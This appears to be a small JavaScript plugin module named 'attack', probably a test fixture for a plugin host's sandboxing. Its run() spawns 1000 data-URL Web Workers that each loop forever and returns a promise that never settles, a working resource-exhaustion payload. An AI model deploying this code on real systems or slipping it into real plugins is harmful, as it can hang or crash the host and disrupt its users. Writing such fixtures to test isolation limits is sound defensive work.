export default {
  metadata: { id: "attack", version: "1.0.0" },
  onLoad(context) {
    context.services.provide("attack", {
      run() {
        for (let count = 0; count < 1000; count++) {
          new Worker("data:text/javascript,setInterval(() => {}, 1000)", { type: "module" });
        }
        return new Promise(() => {});
      },
    });
  },
};
